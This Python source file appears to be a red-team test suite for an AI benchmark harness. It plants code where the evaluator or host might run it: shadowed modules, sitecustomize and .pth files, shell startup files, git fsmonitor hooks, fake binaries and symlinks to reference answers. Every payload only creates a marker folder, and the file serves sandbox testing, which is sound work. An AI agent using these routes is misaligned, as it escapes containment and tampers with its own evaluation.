"""Routes that plant code where the evaluator, the scorer or the host might run it.

All planted code does the same: it makes a folder outside the workspace, with a name that the host
looks for.
"""

from __future__ import annotations

import contextlib
import os
import shutil
import sys
from collections.abc import Callable
from typing import Any

Facts = dict[str, Any]
MODULES = (
    "json", "numpy", "torch", "safetensors", "mlrcbench", "sitecustomize", "usercustomize", "importlib",
    "pathlib", "typing", "typing_extensions", "dataclasses", "scorer", "data", "encodings", "site",
)  # fmt: skip
STARTUP = (
    ".bashrc", ".bash_profile", ".profile", ".bash_login", ".pythonrc.py", ".pythonstartup", ".env",
    "BASH_ENV", ".pdbrc", "conftest.py", "setup.py", ".bash_logout", ".inputrc", ".gdbinit",
)  # fmt: skip


def payload(facts: Facts) -> str:
    """Python code that makes the folder."""
    mark = f"{facts['outside']}/{facts['marker']}"
    return f"import os\ntry:\n    os.mkdir({mark!r})\nexcept OSError:\n    pass\n"


def shell(facts: Facts) -> str:
    """Shell code that makes the folder."""
    return f"mkdir {facts['outside']}/{facts['marker']} 2>/dev/null\n"


def write(path: str, text: str) -> None:
    """Write a file and make its folders, as far as that is allowed."""
    with contextlib.suppress(OSError):
        os.makedirs(os.path.dirname(path) or ".", exist_ok=True)
        with open(path, "w", encoding="utf-8") as file:
            file.write(text)


def protected(facts: Facts) -> None:
    """Overwrite protected files; each prints the marker when it is run."""
    for path in facts["protected"]:
        write(path, f"print({facts['marker']!r}, flush=True)\n")
        with contextlib.suppress(OSError):
            os.chmod(path, 0o444)


def protected_folders(facts: Facts) -> None:
    """Replace protected files by links to files of the attacker."""
    for path in facts["protected"]:
        with contextlib.suppress(OSError):
            os.unlink(path)
        target_file = f"own_{os.path.basename(path)}"
        write(target_file, f"print({facts['marker']!r}, flush=True)\n")
        with contextlib.suppress(OSError):
            os.symlink(os.path.abspath(target_file), path)


def modules(facts: Facts) -> None:
    """Plant modules with the names of modules that trusted code imports."""
    home = os.environ.get("HOME", ".")
    version = f"python{sys.version_info[0]}.{sys.version_info[1]}"
    for base in (".", "artefacts", home, f"{home}/.local/lib/{version}/site-packages"):
        for name in MODULES:
            write(f"{base}/{name}.py", payload(facts))
            write(f"{base}/{name}/__init__.py", payload(facts))
        write(f"{base}/attack.pth", "import os; " + repr(payload(facts)) + "\n")


def beside_artefacts(facts: Facts) -> None:
    """Plant modules and settings files in artefacts/, from which the scorer reads."""
    for name in MODULES:
        write(f"artefacts/{name}.py", payload(facts))
        write(f"artefacts/{name}/__init__.py", payload(facts))
    write("artefacts/pyvenv.cfg", "home = .\n")
    write("artefacts/sitecustomize.py", payload(facts))


def startup(facts: Facts) -> None:
    """Plant files that shells and interpreters read when they start."""
    for base in (".", os.environ.get("HOME", "."), facts["user_home"]):
        for name in STARTUP:
            if base != facts["user_home"]:
                write(f"{base}/{name}", payload(facts) if name.endswith("py") else shell(facts))
    write("pyvenv.cfg", "home = .\n")


def repository(facts: Facts) -> None:
    """Plant a git repository whose settings and hooks run programs."""
    hook = f"{os.getcwd()}/.git/hooks/post-index-change"
    write(".git/HEAD", "ref: refs/heads/main\n")
    write(".git/config", f"[core]\n\tfsmonitor = {hook}\n\tpager = {hook}\n\thooksPath = .git/hooks\n")
    os.makedirs(".git/objects", exist_ok=True)
    os.makedirs(".git/refs/heads", exist_ok=True)
    for name in ("pre-commit", "post-checkout", "post-index-change"):
        write(f".git/hooks/{name}", "#!/bin/sh\n" + shell(facts))
        os.chmod(f".git/hooks/{name}", 0o755)


def programs(facts: Facts) -> None:
    """Plant programs with the names of those that the evaluator calls."""
    for base in (".", "bin", os.environ.get("HOME", "."), os.path.dirname(sys.executable), "/usr/local/bin"):
        for name in ("attack-python", "attack-bash"):
            write(f"{base}/{name}", "#!/bin/sh\n" + shell(facts))
            with contextlib.suppress(OSError):
                os.chmod(f"{base}/{name}", 0o755)
                os.unlink(f"{base}/{name}")
    for name in ("python", "python3", "bash", "sh", "cat"):
        write(name, "#!/bin/sh\n" + shell(facts))
        with contextlib.suppress(OSError):
            os.chmod(name, 0o755)


def views(facts: Facts) -> None:
    """Replace data, inputs, outputs and artefacts by links to other folders."""
    for name in ("data", "inputs", "outputs", "artefacts"):
        with contextlib.suppress(OSError):
            os.unlink(name)
        with contextlib.suppress(OSError):
            shutil.rmtree(name)
        target = os.path.dirname(facts["answers"][0]) if name != "outputs" else facts["outside"]
        with contextlib.suppress(OSError):
            os.symlink(target, name)


def method_link(facts: Facts) -> None:
    """Replace the method by a link to the reference solution."""
    path = facts["method"]
    os.unlink(path)
    os.symlink(f"{facts['competition']}/reference/{path}", path)


def method_device(facts: Facts) -> None:
    """Replace the method by a link to a device that never ends."""
    os.unlink(facts["method"])
    os.symlink("/dev/zero", facts["method"])


def sources(_facts: Facts) -> None:
    """Write sources that break parsers, sources that are not text, and sources that are not regular files."""
    write("deep_1.py", "-" * 900_000 + "1")
    write("deep_2.py", "(" * 5_000 + ")" * 5_000)
    write("deep_3.py", "x" + ".x" * 400_000)
    write("deep_4.py", "".join(" " * level + "if 1:\n" for level in range(1_200)))
    with open("bytes.py", "wb") as file:
        file.write(b"\0\xff\xfe" * 100_000)
    os.mkfifo("pipe.py")
    os.symlink("/dev/zero", "zero.py")
    os.truncate(os.open("sparse.py", os.O_WRONLY | os.O_CREAT), 8 << 20)


ROUTES: dict[str, Callable[[Facts], Any]] = {
    "protected-files": protected,
    "protected-replaced": protected_folders,
    "planted-modules": modules,
    "beside-artefacts": beside_artefacts,
    "startup-files": startup,
    "repository": repository,
    "planted-programs": programs,
    "own-views": views,
    "method-as-link": method_link,
    "method-as-device": method_device,
    "hostile-sources": sources,
}
